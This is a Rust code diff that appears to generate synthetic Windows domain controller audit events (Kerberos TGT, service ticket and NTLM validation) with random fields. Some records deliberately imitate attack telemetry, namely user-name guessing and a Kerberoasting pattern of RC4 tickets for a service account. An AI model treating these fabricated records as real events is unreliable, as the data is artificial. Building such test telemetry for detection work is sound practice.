+    system(ctx, fields, &header, host);
+    fields.str("UserData.SubjectUserSid", &admin.sid);
+    fields.str("UserData.SubjectUserName", &admin.username);
+    fields.str("UserData.SubjectDomainName", &world.netbios_domain);
+    let id = logon_id(&mut ctx.rng);
+    fields.str("UserData.SubjectLogonId", &id);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Domain controller authentication
+
+fn kerberos_tgt(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let failed = ctx.rng.chance(80);
+    let header = Header {
+        event_id: 4768,
+        version: 0,
+        task: 14339,
+        keywords: if failed { AUDIT_FAILURE } else { AUDIT_SUCCESS },
+        activity: false,
+    };
+    let host = domain_controller(world, &mut ctx.rng);
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    system(ctx, fields, &header, host);
+
+    if failed {
+        // KDC_ERR_C_PRINCIPAL_UNKNOWN: the client name is not in the directory.
+        fields.str("EventData.TargetUserName", ctx.rng.pick_str(GUESSED_NAMES));
+        fields.str("EventData.TargetDomainName", &fqdn_upper(world));
+        fields.str("EventData.TargetSid", NULL_SID);
+    } else {
+        fields.str("EventData.TargetUserName", &user.username);
+        fields.str("EventData.TargetDomainName", &world.netbios_domain);
+        fields.str("EventData.TargetSid", &user.sid);
+    }
+    fields.str("EventData.ServiceName", if failed { "krbtgt/".to_string() + &fqdn_upper(world) } else { "krbtgt".to_string() }.as_str());
+    if failed {
+        fields.str("EventData.ServiceSid", NULL_SID);
+    } else {
+        fields.fmt("EventData.ServiceSid", format_args!("{}-502", world.domain_sid));
+    }
+    fields.str("EventData.TicketOptions", "0x40810010");
+    fields.str("EventData.Status", if failed { "0x6" } else { "0x0" });
+    fields.str("EventData.TicketEncryptionType", if failed { "0xffffffff" } else { "0x12" });
+    fields.str("EventData.PreAuthType", if failed { "-" } else { "2" });
+    fields.fmt("EventData.IpAddress", format_args!("::ffff:{}", workstation.ip));
+    fields.fmt("EventData.IpPort", format_args!("{}", ctx.rng.range(49_152, 65_535)));
+    fields.str("EventData.CertIssuerName", "");
+    fields.str("EventData.CertSerialNumber", "");
+    fields.str("EventData.CertThumbprint", "");
+}
+
+fn kerberos_service_ticket(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let header = Header {
+        event_id: 4769,
+        version: 0,
+        task: 14337,
+        keywords: AUDIT_SUCCESS,
+        activity: false,
+    };
+    let host = domain_controller(world, &mut ctx.rng);
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    let server = windows_server(world, &mut ctx.rng);
+    system(ctx, fields, &header, host);
+
+    fields.fmt("EventData.TargetUserName", format_args!("{}@{}", user.username, fqdn_upper(world)));
+    fields.str("EventData.TargetDomainName", &fqdn_upper(world));
+    // A few requests name a service account with RC4 tickets, the Kerberoasting pattern.
+    let roast = ctx.rng.chance(30);
+    if roast {
+        fields.str("EventData.ServiceName", "svc_sql");
+        fields.fmt("EventData.ServiceSid", format_args!("{}-1201", world.domain_sid));
+        fields.str("EventData.TicketOptions", "0x40810000");
+        fields.str("EventData.TicketEncryptionType", "0x17");
+    } else {
+        fields.fmt("EventData.ServiceName", format_args!("{}$", server.hostname));
+        fields.fmt("EventData.ServiceSid", format_args!("{}-{}", world.domain_sid, 2000 + fnv1a(server.hostname.as_bytes()) % 5000));
+        fields.str("EventData.TicketOptions", "0x40810000");
+        fields.str("EventData.TicketEncryptionType", "0x12");
+    }
+    fields.fmt("EventData.IpAddress", format_args!("::ffff:{}", workstation.ip));
+    fields.fmt("EventData.IpPort", format_args!("{}", ctx.rng.range(49_152, 65_535)));
+    fields.str("EventData.Status", "0x0");
+    let logon_guid = guid(&mut ctx.rng);
+    fields.str("EventData.LogonGuid", &logon_guid);
+    fields.str("EventData.TransmittedServices", "-");
+}
+
+fn ntlm_validation(ctx: &mut GenContext<'_>, fields: &mut Fields) {
+    let world = ctx.world;
+    let failed = ctx.rng.chance(150);
+    let header = Header {
+        event_id: 4776,
+        version: 0,
+        task: 14336,
+        keywords: if failed { AUDIT_FAILURE } else { AUDIT_SUCCESS },
+        activity: false,
+    };
+    let host = domain_controller(world, &mut ctx.rng);
+    let (user, workstation) = windows_user(world, &mut ctx.rng);
+    system(ctx, fields, &header, host);
+    fields.str("EventData.PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0");
+    fields.str("EventData.TargetUserName", &user.username);
+    fields.str("EventData.Workstation", &workstation.hostname);
+    fields.str("EventData.Status", if failed { "0xc000006a" } else { "0x0" });
+}
